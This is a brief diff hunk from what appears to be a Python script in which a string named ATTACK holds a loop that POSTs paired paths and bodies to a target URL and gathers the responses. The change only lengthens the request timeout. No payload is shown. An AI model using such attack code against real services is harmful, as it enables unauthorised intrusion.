@@ -29,7 +29,7 @@ ATTACK = """if True:
     for path, body in zip(posts[::2], posts[1::2]):
         try:
             post = urllib.request.Request(url + path, body.encode(), method="POST")
-            with urllib.request.urlopen(post, timeout=20) as answer:
+            with urllib.request.urlopen(post, timeout=60) as answer:
                 answers.append(answer.read().decode())
         except urllib.error.HTTPError as error:
             answers.append(error.read().decode())
